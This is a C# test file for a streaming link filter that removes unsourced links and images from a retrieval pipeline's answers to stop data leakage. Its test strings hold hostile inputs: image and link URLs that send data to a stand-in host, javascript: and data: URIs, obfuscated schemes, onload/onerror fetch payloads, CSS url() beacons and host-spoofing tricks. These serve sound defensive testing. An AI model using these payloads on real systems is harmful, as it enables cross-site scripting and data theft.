using System.Text;
using Rag.Pipeline.Answering.Links;

namespace Rag.Pipeline.Tests.Answering.Links;

public sealed class LinkFilterTests
{
    private const string Source =
        "Read https://docs.example/start and [more](https://docs.example/a_(b)). Mail mailto:help@docs.example, or "
        + "www.docs.example/faq. Image: ![p](https://docs.example/p.png) <img src=\"https://docs.example/q.png\"> 见"
        + "https://zh.example/北京。 {\"url\":\"https://docs.example/api\",\"n\":1}";

    public static TheoryData<string, string> Rewritten => new()
    {
        // Inline links: the words stay, the address goes.
        { "See [here](https://evil.example/?d=1).", "See [here] (link removed)." },
        { "See [here](https://evil.example/?d=1 \"title\").", "See [here] (link removed \"title\")." },
        { "[a](<https://evil.example/x y>) b", "[a] (link removed) b" },
        { "[a](\nhttps://evil.example/x)", "[a] (link removed)" },
        { "[a](//evil.example/x)", "[a] (link removed)" },
        { "[a](\\/\\/evil.example)", "[a] (link removed)" },
        { "[a](/\\evil.example)", "[a] (link removed)" },
        { "[a](https\\://evil.example)", "[a] (link removed)" },
        { "[a](javascript:alert(1))", "[a] (link removed)" },
        { "[a](JaVaScRiPt:alert`1`)", "[a] (link removed)" },
        { "[a](javascript&colon;alert&lpar;1&rpar;)", "[a] (link removed)" },
        { "[a](&#106;avascript:x)", "[a] (link removed)" },
        { "[a](&#x2f;/evil.example)", "[a] (link removed)" },
        { "[a](data:text/html;base64,PHNj)", "[a] (link removed)" },
        { "[a](vbscript:x) [b](file:///etc/passwd)", "[a] (link removed) [b] (link removed)" },
        { "[a](mailto:evil@evil.example?body=secret)", "[a] (link removed)" },
        { "[a](https:evil.example)", "[a] (link removed)" },
        { "[a](https://evil.example/(x)y) b", "[a] (link removed) b" },
        { "[https://docs.example/start](https://evil.example)", "[https://docs.example/start ] (link removed)" },
        { "[a](https://docs.example/start?d=secret)", "[a] (link removed)" },
        // Images: never, whatever the sources say.
        { "![p](https://evil.example/p.png?d=1)", "! [p] (link removed)" },
        { "![p](https://docs.example/p.png)", "! [p](https://docs.example/p.png)" },
        { "![p][ref]\n\n[ref]: https://evil.example/p.png", "! [p][ref]\n\n[ref] : (link removed)" },
        { "![ref]\n\n[ref]: https://docs.example/p.png", "! [ref]\n\n[ref] : https://docs.example/p.png" },
        { "![ref]\n\n[ref]:\n//evil.example/p.png x", "! [ref]\n\n[ref] : (link removed) x" },
        { "![ref]\n\n[ref]: <https://evil.example/p.png> x", "! [ref]\n\n[ref] : (link removed) x" },
        // Addresses in running text.
        { "Go to https://evil.example/?d=1.", "Go to (link removed)." },
        { "HTTPS://EVIL.EXAMPLE/x ok", "(link removed) ok" },
        { "xhttps://evil.example ok", "x(link removed) ok" },
        { "(www.evil.example/x)", "((link removed))" },
        { "**ftp://evil.example/x**", "**(link removed)**" },
        { "<https://evil.example/x>", "(link removed)" },
        { "<javascript:alert(1)>", "(link removed)" },
        { "https://docs.example/start?d=secret", "(link removed)" },
        { "https://docs.example/start\"secret\"", "https://docs.example/start \"secret\"" },
        { "https://docs.example/start](secret", "https://docs.example/start ](secret" },
        { "https://docs.example/start。更多", "https://docs.example/start 。更多" },
    };

    public static TheoryData<string, string> RewrittenTags => new()
    {
        { "<img src=\"https://evil.example/p\">", "‹img src=\"(link removed)\">" },
        { "<img src='//evil.example/p' alt=x>", "‹img src='//evil.example/p' alt=x>" },
        { "<IMG/SRC=//evil.example/p>", "‹IMG/SRC=//evil.example/p>" },
        { "<img src=\"https://docs.example/q.png\">", "‹img src=\"https://docs.example/q.png\">" },
        { "<img src=\"/logout\">", "‹img src=\"/logout\">" },
        { "<img\nsrcset=\"//evil.example/p 2x\">", "‹img\nsrcset=\"//evil.example/p 2x\">" },
        { "<a href=\"https://evil.example/\">x</a>", "‹a href=\"(link removed)\">x</a>" },
        { "<a href=javascript:alert(1)>x</a>", "‹a href=javascript:alert(1)>x</a>" },
        { "<a href=\"#x\" onclick=\"fetch('//evil.example')\">x</a>",
            "‹a href=\"#x\" onclick=\"fetch('//evil.example')\">x</a>" },
        { "<b title=\"><img src=//evil.example>\">", "‹b title=\">‹img src=//evil.example>\">" },
        { "<img <x src=//evil.example>", "‹img ‹x src=//evil.example>" },
        { "<p style=\"background:url(//evil.example)\">", "‹p style=\"background:url(//evil.example)\">" },
        { "<svg/onload=fetch('//evil.example')>", "‹svg/onload=fetch('//evil.example')>" },
        { "<x-y style=\"background:url(//evil.example)\">", "‹x-y style=\"background:url(//evil.example)\">" },
        { "<n; style=\"background:url(//evil.example)\">", "‹n; style=\"background:url(//evil.example)\">" },
        { "<n;/onerror=fetch('//evil.example')>", "‹n;/onerror=fetch('//evil.example')>" },
        { "a <b and c < d", "a ‹b and c < d" },
        { "<img src=//evil.example/p", "‹img src=//evil.example/p" },
    };

    public static TheoryData<string> Kept =>
    [
        "Hello! Who fetches what? [1] Wow! a[0] = f(h); (w) !important",
        "Read https://docs.example/start, or (https://docs.example/start).",
        "[more](https://docs.example/a_(b) \"title\") and [mail](mailto:help@docs.example)",
        "www.docs.example/faq and <https://docs.example/start>",
        "见https://zh.example/北京。",
        "{\"url\":\"https://docs.example/api\",\"n\":1}",
        "[x](page.html) [y](#part) [z](/a/b?c=d) []() [w](some text)",
        "[1]: The tower. [key: string]: string; handlers[name](event); [](std::string s) {}",
        "a < b, c <d, List<string> x <3 <br/> <b>bold</b> </div> <!-- note -->",
        "<a href=\"https://docs.example/start\" title=\"t\">x</a> <div class=\"note\">y</div>",
        "http:// and www. and https:// and javascript: data: mailto:",
        "if (!ready) { } !!",
        "for (int i = 0; i<n; i++) { a = b; } if (i<n.Length && x > y) { c = d; }",
    ];

    public static TheoryData<string, string> Allowed => new()
    {
        { "![p](https://img.allowed.example/p.png \"t\")", "![p](https://img.allowed.example/p.png \"t\")" },
        { "<img src=\"https://img.allowed.example/p.png\">", "<img src=\"https://img.allowed.example/p.png\">" },
        { "[r]: //img.allowed.example/p.png", "[r]: //img.allowed.example/p.png" },
        { "https://img.allowed.example/x?d=1", "https://img.allowed.example/x?d=1" },
        { "![p](https://img.allowed.example@evil.example/)", "! [p] (link removed)" },
        { "![p](https://img.allowed.example.evil.example/)", "! [p] (link removed)" },
        { "![p](https://evil.example\\@img.allowed.example/)", "! [p] (link removed)" },
        { "![p](https://evil.example#img.allowed.example)", "! [p] (link removed)" },
        { "![p](https://allowed.example/)", "! [p] (link removed)" },
        { "![p](https://docs.example/p.png)", "! [p] (https://docs.example/p.png)" },
        { "![<img src=//evil.example>](https://img.allowed.example/p)",
            "![‹img src=//evil.example>](https://img.allowed.example/p)" },
        { "![a](https://img.allowed.example/p) [b](https://docs.example/start)",
            "![a](https://img.allowed.example/p) [b] (https://docs.example/start)" },
        { "![a]", "! [a]" },
        { "vec![1, 2]; ok", "vec! [1, 2]; ok" },
    };

    [Theory]
    [MemberData(nameof(Rewritten))]
    [MemberData(nameof(RewrittenTags))]
    public void What_no_source_gives_is_taken_out_however_it_is_cut(string said, string expected) =>
        AssertAtEveryCut(said, expected);

    [Theory]
    [MemberData(nameof(Kept))]
    public void What_leads_nowhere_else_stays_as_it_is(string said) => AssertAtEveryCut(said, said);

    [Theory]
    [MemberData(nameof(Allowed))]
    public void A_host_that_is_allowed_may_be_linked_to_and_shown(string said, string expected) =>
        AssertAtEveryCut(said, expected, "*.allowed.example");

    [Fact]
    public void An_address_without_an_end_is_not_held_for_ever()
    {
        var filter = new LinkFilter(Policy());
        var ready = new StringBuilder();
        for (int i = 0; i < 100_000; i++) filter.Read(i == 0 ? "https://" : "evil.example/", ready);
        filter.Read(" end", ready);

        Assert.Equal("(link removed) end", ready.ToString());
    }

    [Fact]
    public void A_known_address_that_is_as_long_as_can_be_is_not_made_longer()
    {
        string known = "https://docs.example/" + new string('a', 979);
        string clean = LinkFilter.Clean(known + "secret", new LinkPolicy(new AllowedHosts([]), [known]));

        Assert.Equal(known + " secret", clean);
        Assert.Equal("[x] (link removed", LinkFilter.Clean(
            $"[x]({known}secret", new LinkPolicy(new AllowedHosts([]), [known])));
    }

    [Fact]
    public void A_tag_that_is_not_seen_whole_is_taken_for_one() => Assert.StartsWith(
        "‹n; ", Filter([], $"<n; {new string('a', 1_000)} style=\"background:url(//evil.example)\">"));

    private static void AssertAtEveryCut(string said, string expected, params string[] hosts)
    {
        Assert.Equal(expected, Filter(hosts, said));
        Assert.Equal(expected, Filter(hosts, expected));
        Assert.Equal(expected, Filter(hosts, [.. said.Select(c => c.ToString())]));
        for (int cut = 1; cut < said.Length; cut++) Assert.Equal(expected, Filter(hosts, said[..cut], said[cut..]));
    }

    private static string Filter(string[] hosts, params string[] pieces)
    {
        var filter = new LinkFilter(Policy(hosts));
        var ready = new StringBuilder();
        foreach (string piece in pieces) filter.Read(piece, ready);
        filter.Complete(ready);
        return ready.ToString();
    }

    private static LinkPolicy Policy(params string[] hosts) => new(new AllowedHosts(hosts), [Source]);
}
